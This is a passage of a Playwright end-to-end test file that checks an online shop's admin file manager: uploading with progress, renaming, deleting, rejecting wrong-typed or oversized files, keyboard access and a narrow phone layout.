    const chunk = Buffer.concat([Buffer.alloc(4), Buffer.from('tEXt'), text, Buffer.alloc(4)]);
    chunk.writeUInt32BE(padding, 0);
    return Buffer.concat([Buffer.from(PNG_HEADER, 'hex'), chunk, Buffer.from('0000000049454e44ae426082', 'hex')]);
  };
  const storedCount = async (page: import('@playwright/test').Page) =>
    ((await (await page.request.get('/api/admin/files')).json()) as { files: unknown[] }).files.length;

  test('the owner uploads a picture with its progress, renames it, shows it on a product, and deletes it', async ({ page }) => {
    await openAdmin(page, '/config/files');
    expect(await accessibilityViolations(page)).toEqual([]);
    // A slow connection, so the bar is seen on its way.
    const cdp = await page.context().newCDPSession(page);
    await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: 400_000 });
    await page.getByLabel('Choose files').setInputFiles({ name: 'mug.png', mimeType: 'image/png', buffer: picture(1_200_000) });
    const bar = page.getByRole('progressbar', { name: 'Uploading mug.png' });
    await expect.poll(async () => Number(await bar.getAttribute('value')), { timeout: 15_000 }).toBeGreaterThan(0);
    expect(Number(await bar.getAttribute('value'))).toBeLessThan(100);
    await expect(page.getByRole('listitem').filter({ hasText: 'mug.png' }).getByText('Uploaded')).toBeVisible({ timeout: 20_000 });
    await expect(bar).toHaveAttribute('value', '100');
    await cdp.send('Network.emulateNetworkConditions', { offline: false, latency: 0, downloadThroughput: -1, uploadThroughput: -1 });
    await expect(page.getByRole('status').filter({ hasText: 'uploaded' })).toHaveText('mug.png uploaded.');

    const files = page.getByRole('list', { name: 'Existing files' });
    await files.getByRole('button', { name: 'Details of mug.png' }).click();
    const detail = page.getByRole('region', { name: 'mug.png' });
    await expect(detail.getByText('2 × 3 pixels')).toBeVisible();
    await expect(detail.getByText('1.1 MB')).toBeVisible();
    await detail.getByLabel('File name').fill('   ');
    await detail.getByRole('button', { name: 'Rename' }).click();
    await expect(detail.getByRole('alert')).toHaveText('Unable to Rename File Please enter a file name');
    await detail.getByLabel('File name').fill('enamel mug');
    await detail.getByRole('button', { name: 'Rename' }).click();
    // The extension decides how the file is served: it is kept.
    await expect(files.getByRole('button', { name: 'Details of enamel mug.png' })).toBeVisible();
    await expect(page.getByRole('heading', { name: 'enamel mug.png' })).toBeVisible();
    expect(await accessibilityViolations(page)).toEqual([]);

    await page.getByLabel('Show as a product’s picture').selectOption({ label: 'Enamel Camp Mug' });
    await page.getByRole('button', { name: 'Show on product' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'now shows' })).toHaveText('Enamel Camp Mug now shows enamel mug.png first.');
    const address = await page.getByRole('link', { name: /\/files\// }).getAttribute('href');
    await page.goto('/shop');
    await expect(page.locator('.product-card', { hasText: 'Enamel Camp Mug' }).locator(`img[src*="${address}"]`).first()).toBeAttached();

    await openAdmin(page, '/config/files');
    await page.getByRole('button', { name: 'Details of enamel mug.png' }).click();
    await page.getByRole('button', { name: 'Delete file' }).click();
    const dialog = page.getByRole('dialog', { name: 'Delete enamel mug.png?' });
    expect(await accessibilityViolations(page)).toEqual([]);
    await dialog.getByRole('button', { name: 'Delete' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'deleted' })).toHaveText('enamel mug.png deleted.');
    await expect(page.getByText('No files yet.')).toBeVisible();
    expect((await page.request.get(address ?? '')).status()).toBe(404);
  });

  test('several files dropped at once upload side by side; a wrong-typed and an oversized one are refused with the spec’s words', async ({
    page,
  }) => {
    await openAdmin(page, '/config/files');
    await page.locator('.files-drop').evaluate((zone) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File(['a,b\n1,2\n'], 'prices.csv', { type: 'text/csv' }));
      transfer.items.add(new File(['notes'], 'notes.txt', { type: 'text/plain' }));
      transfer.items.add(new File(['<h1>hi</h1>'], 'page.html', { type: 'text/html' }));
      transfer.items.add(new File([new Uint8Array(20_000_001)], 'film.mp4', { type: 'video/mp4' }));
      zone.dispatchEvent(new DragEvent('dragenter', { dataTransfer: transfer, bubbles: true }));
      zone.dispatchEvent(new DragEvent('drop', { dataTransfer: transfer, bubbles: true, cancelable: true }));
    });
    const uploads = page.getByRole('list', { name: 'Uploads' });
    await expect(uploads.getByRole('listitem')).toHaveCount(4);
    await expect(uploads.getByRole('listitem').filter({ hasText: 'prices.csv' }).getByText('Uploaded')).toBeVisible();
    await expect(uploads.getByRole('listitem').filter({ hasText: 'notes.txt' }).getByText('Uploaded')).toBeVisible();
    await expect(uploads.getByRole('listitem').filter({ hasText: 'page.html' }).getByRole('alert')).toHaveText(
      'Unable to Upload File "page.html" is an unsupported file type',
    );
    await expect(uploads.getByRole('listitem').filter({ hasText: 'film.mp4' }).getByRole('alert')).toHaveText(
      'Unable to Upload File "film.mp4" is too large, the maximum allowed file size is 20 MB',
    );
    expect(await accessibilityViolations(page)).toEqual([]);
    const files = page.getByRole('list', { name: 'Existing files' });
    await expect(files.getByRole('listitem')).toHaveCount(2);
    expect(await storedCount(page)).toBe(2);
    await uploads.getByRole('button', { name: 'Dismiss page.html' }).click();
    await expect(uploads.getByRole('listitem')).toHaveCount(3);
  });

  test('the server’s refusal is shown too, and a lost connection says the upload failed', async ({ page }) => {
    await openAdmin(page, '/config/files');
    await page.route('**/api/admin/files', (route) =>
      route.request().method() === 'POST'
        ? route.fulfill({ status: 415, json: { error: '"x.png" is an unsupported file type' } })
        : route.fallback(),
    );
    await page.getByLabel('Choose files').setInputFiles({ name: 'x.png', mimeType: 'image/png', buffer: picture(10) });
    await expect(page.getByRole('list', { name: 'Uploads' }).getByRole('alert')).toHaveText(
      'Unable to Upload File "x.png" is an unsupported file type',
    );
    await page.unroute('**/api/admin/files');
    await page.route('**/api/admin/files', (route) => (route.request().method() === 'POST' ? route.abort() : route.fallback()));
    await page.getByLabel('Choose files').setInputFiles({ name: 'y.png', mimeType: 'image/png', buffer: picture(10) });
    await expect(page.getByRole('listitem').filter({ hasText: 'y.png' }).getByRole('alert')).toHaveText(
      /^(Error uploading|File upload failed to complete) There was a problem while uploading your file\.$/,
    );
    expect(await storedCount(page)).toBe(0);
  });

  test('keyboard only: pick a file, open its details, rename it, and delete it', async ({ page }) => {
    await openAdmin(page, '/config/files');
    await page.getByLabel('Choose files').setInputFiles({ name: 'label.txt', mimeType: 'text/plain', buffer: Buffer.from('label') });
    await expect(page.getByRole('status').filter({ hasText: 'uploaded' })).toHaveText('label.txt uploaded.');
    await page.getByRole('button', { name: 'Details of label.txt' }).focus();
    await page.keyboard.press('Enter');
    await page.getByLabel('File name').focus();
    await page.keyboard.press('ControlOrMeta+a');
    await page.keyboard.type('shipping label');
    await page.keyboard.press('Enter');
    await expect(page.getByRole('heading', { name: 'shipping label.txt' })).toBeVisible();
    await page.getByRole('button', { name: 'Delete file' }).focus();
    await page.keyboard.press('Enter');
    const dialog = page.getByRole('dialog', { name: 'Delete shipping label.txt?' });
    await expect(dialog).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog).toHaveCount(0);
    await expect(page.getByRole('button', { name: 'Delete file' })).toBeFocused();
    await page.keyboard.press('Enter');
    await dialog.getByRole('button', { name: 'Delete' }).focus();
    await page.keyboard.press('Enter');
    await expect(page.getByText('No files yet.')).toBeVisible();
  });
});

test.describe('the overview', () => {
  test('shows every page with the spec’s status labels and the trial’s upgrade link', async ({ page }) => {
    await openAdmin(page, '/config/store-pages');
    await page.getByLabel('Page title').fill('Sketches');
    await page.getByRole('checkbox', { name: /Enabled/ }).uncheck();
    await page.getByRole('button', { name: 'Create store page' }).click();
    await expect(page.getByRole('status').filter({ hasText: 'Created' })).toBeVisible();
    await openAdmin(page, '/config');
    await expect(page.getByRole('listitem').filter({ hasText: 'Sketches' }).locator('.admin-badge')).toHaveText('Draft');
    await page.getByRole('link', { name: 'Upgrade your plan' }).click();
    await expect(page).toHaveURL(/\/config\/settings\/billing\/upgrade$/);
    expect(await accessibilityViolations(page)).toEqual([]);
  });

  test('works at 320 px with touch: nothing wider than the screen', async ({ browser, demo }) => {
    const phone = await browser.newContext({ viewport: { width: 320, height: 640 }, hasTouch: true, isMobile: true, baseURL: demo.url });
    const page = await phone.newPage();
    await signInThroughApi(page, 'owner@example.com');
    for (const path of ['/config', '/config/navigation', '/config/store-pages', '/config/styles', '/config/files']) {
      await openAdmin(page, path);
      expect(await page.evaluate(() => document.documentElement.scrollWidth), path).toBeLessThanOrEqual(320);
    }
    await page.getByRole('button', { name: 'Phone' }).tap();
    await expect(page.locator('.admin-preview__stage')).toHaveAttribute('data-device', 'phone');
    await phone.close();
  });
});
